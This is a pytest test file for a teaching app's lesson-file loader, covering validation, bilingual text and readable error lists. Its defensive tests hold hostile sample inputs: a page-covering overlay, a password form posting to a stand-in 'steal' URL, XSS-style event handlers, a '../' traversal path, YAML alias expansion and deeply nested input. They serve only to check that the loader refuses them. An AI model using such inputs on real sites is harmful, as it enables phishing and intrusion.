"""Lesson files: the built-in lessons are valid, in both languages, and cover the six
topics; a file with mistakes is refused with every problem listed, where it is; a
teacher's own lessons come in through the classroom file, and theirs are refused when
the app starts, with the list of problems, as a bad classroom file is."""

import json
from pathlib import Path

import pytest

from classroom.rules import load as load_classroom
from lessons import files
from lessons.files import LessonError

TOPICS = {
    "joint-embedding": "search",
    "contrastive-learning": "contrastive",
    "attention": "caption",
    "fusion-strategies": "fusion",
    "image-tokens": "chat",
    "measuring-abilities": "evaluate",
}

GOOD = """
id: my-lesson
title: {en: My lesson, zh-CN: 我的课}
steps:
  - title: Look at a cat
    text: A cat, described. $x^2$
    try:
      tab: caption
      run: caption
      files: {image: cat.jpg}
"""

BAD = """
id: Bad Lesson
title: {en: Bad, fr: Mauvais}
colour: blue
steps:
  - title: {en: One}
    text: ""
    try:
      tab: caption
      run: caption
      files: {image: cta.jpg}
  - title: {en: Two}
    text: {en: Two}
    try: {tab: search, run: classify, inputs: {labels: "a, b"}, files: {labels: cat.jpg}, extra: 1}
"""


def write(folder: Path, name: str, text: str) -> Path:
    path = folder / name
    path.write_text(text, encoding="utf-8")
    return path


def test_the_built_in_lessons_are_valid_and_in_both_languages():
    lessons = files.load(files.builtin_paths())
    assert {
        lesson.id: lesson.steps[-2 if lesson.id == "image-tokens" else 0].try_it.tab for lesson in lessons
    } == TOPICS
    for lesson in lessons:
        texts = [lesson.title, lesson.summary, *(s.title for s in lesson.steps), *(s.text for s in lesson.steps)]
        for text in texts:
            assert text["en"] != text["zh-CN"], (lesson.id, text)  # written in each language, not copied
            assert any("\u4e00" <= ch <= "\u9fff" for ch in text["zh-CN"]), text
        assert 3 <= len(lesson.steps) <= 5
        assert sum(s.try_it is not None for s in lesson.steps) >= 3
    chat = [s for lesson in lessons for s in lesson.steps if s.try_it and s.try_it.tab == "chat"]
    assert len(chat) == 2 and not any(s.try_it.optional for s in chat)  # the Chat tab runs them


def test_a_good_file_reads_and_one_string_is_both_languages(tmp_path):
    (lesson,) = files.load([write(tmp_path, "mine.yaml", GOOD)])
    step = lesson.steps[0]
    assert step.title == {"en": "Look at a cat", "zh-CN": "Look at a cat"}
    assert lesson.title["zh-CN"] == "我的课" and lesson.source == (tmp_path / "mine.yaml").resolve()
    assert step.try_it.values() == {"image": str(files.FILE_DIRS[0] / "cat.jpg")}


def test_a_file_with_mistakes_is_refused_with_every_problem(tmp_path):
    with pytest.raises(LessonError) as caught:
        files.load([write(tmp_path, "bad.yaml", BAD)])
    problems = caught.value.problems
    message = str(caught.value)
    expected = [
        "bad.yaml: id: String should match pattern",
        "bad.yaml: title: unknown language 'fr'; languages = ['en', 'zh-CN']",
        "bad.yaml: colour: unknown key; allowed here: id, title, summary, steps",
        "bad.yaml: steps.1.text: every text must be a non-empty string",
        "bad.yaml: steps.1.try.files: image: no file named 'cta.jpg' in assets/images or assets/audio",
        "bad.yaml: steps.2.try.extra: unknown key; allowed here: tab, run, inputs, files, optional",
    ]
    for line in expected:
        assert any(p.startswith(line) for p in problems), (line, problems)
        assert line in message
    assert message.startswith("the lessons can't be used as they are:\n  - bad.yaml: ")


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("id: [", "not valid YAML at line 1"),
        ("- a\n- b", "must hold a lesson (id, title, steps), not list"),
        ("id: x\ntitle: X\nsteps: []", "steps: List should have at least 1 item"),
        (
            "id: x\ntitle: X\nsteps: [{title: a, text: b, try: {tab: search, run: classify, files: {image: ../secret.jpg}}}]",
            "must be a file name, with no folder",
        ),
        (
            "id: x\ntitle: X\nsteps: [{title: a, text: b, try: {tab: search, inputs: {a: 1}, files: {a: cat.jpg}}}]",
            "steps.1.try.run: Field required",
        ),
    ],
)
def test_each_kind_of_mistake_is_named(tmp_path, text, problem):
    with pytest.raises(
        LessonError,
        match="lesson.yaml: .*"
        + problem.replace("(", r"\(").replace(")", r"\)").replace("[", r"\[").replace("]", r"\]"),
    ):
        files.load([write(tmp_path, "lesson.yaml", text)])


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("[" * 50_000 + "]" * 50_000, "line 1: nested more than 12 levels deep"),
        (
            "id: x\ntitle: X\nsteps: [{title: a, text: b, try: {tab: search, run: classify, inputs: {a: "
            + "[" * 50_000
            + "]" * 50_000
            + "}}}]",
            "line 3: nested more than 12 levels deep",
        ),
        ("a: &a [x, x]\nb: &b [*a, *a]\n", "line 2: anchors and aliases (&name, *name) are not used"),
        ("id: x\n# " + "x" * 300_000, "the lesson file has 300,008 bytes; a lesson file may have at most 256,000"),
    ],
)
def test_a_runaway_file_is_a_problem_in_the_list_not_a_crash(tmp_path, text, problem):
    """A file nested 50,000 deep gave a 3,000-line RecursionError from the YAML parser."""
    for suffix in ("yaml", "json"):
        lessons, problems = files.read([write(tmp_path, f"deep.{suffix}", text), write(tmp_path, "good.yaml", GOOD)])
        assert [lesson.id for lesson in lessons] == ["my-lesson"]
        assert len(problems) == 1 and problems[0].startswith(f"deep.{suffix}: {problem}"), problems


OVERLAY = '<div style="position:fixed;inset:0;z-index:9999;background:white">Session expired</div>'
PASSWORD_FORM = (
    '<form action="https://example.org/steal"><input type="password" name="p"><button>Log in</button></form>'
)


@pytest.mark.parametrize(
    ("where", "html", "problem"),
    [
        ("text", OVERLAY, "steps.1.text: HTML '<div style=\"position:fixed;inset:0;z-index:9999;backgroun..."),
        ("text", PASSWORD_FORM, "steps.1.text: HTML '<form action=\"https://example.org/steal\">'"),
        ("title", "<b onclick='x()'>Hi</b>", "steps.1.title: HTML \"<b onclick='x()'>\""),
        ("formula", "x <img src=x onerror=alert(1)>", "steps.1.formula: HTML '<img src=x onerror=alert(1)>'"),
        ("text", "<!-- hidden --> text", "steps.1.text: HTML '<!-- hidden -->'"),
    ],
)
def test_lesson_html_that_could_draw_over_the_page_or_ask_for_a_password_is_refused(tmp_path, where, html, problem):
    """Gradio's Markdown sanitiser keeps styles, forms and inputs: a lesson could cover the
    page or show a password form. Lessons take a few plain tags; every other is a problem."""
    step = {"title": "A step", "text": "Some text.", where: html}
    text = "id: x\ntitle: X\nsteps:\n  - " + json.dumps(step, ensure_ascii=False)
    lessons, problems = files.read([write(tmp_path, "html.yaml", text)])
    assert lessons == [] and len(problems) == 1 and problems[0].startswith(f"html.yaml: {problem}"), problems


def test_lesson_markdown_keeps_its_plain_tags_comparisons_and_links(tmp_path):
    step = {
        "title": "H<sub>2</sub>O",
        "text": "x < y, 0<1, <b>bold</b><br/>and <https://example.org>",
        "formula": "p \\lt 1",
    }
    text = "id: x\ntitle: X\nsteps:\n  - " + json.dumps(step, ensure_ascii=False)
    (lesson,) = files.load([write(tmp_path, "fine.yaml", text)])
    assert lesson.steps[0].text["en"] == step["text"]


def test_missing_files_and_duplicate_ids_are_problems_too(tmp_path):
    good = write(tmp_path, "a.yaml", GOOD)
    lessons, problems = files.read(
        [good, write(tmp_path, "b.yaml", GOOD), tmp_path / "gone.yaml", write(tmp_path, "c.txt", GOOD)]
    )
    assert [lesson.id for lesson in lessons] == ["my-lesson"]
    assert problems == [
        "b.yaml: id: 'my-lesson' is already the id of a.yaml; each lesson needs its own",
        f"gone.yaml: the lesson file does not exist ({tmp_path / 'gone.yaml'})",
        "c.txt: a lesson file is YAML (.yaml, .yml) or JSON (.json)",
    ]


def test_a_classroom_file_names_its_lessons_beside_it(tmp_path):
    write(tmp_path, "mine.yaml", GOOD)
    settings = write(tmp_path, "classroom.yaml", "lessons: [mine.yaml, /elsewhere/other.yaml]\n")
    rules = load_classroom(settings)
    assert rules.lesson_paths() == [tmp_path.resolve() / "mine.yaml", Path("/elsewhere/other.yaml")]
    assert load_classroom(write(tmp_path, "none.yaml", "message: hi\n")).lesson_paths() == []
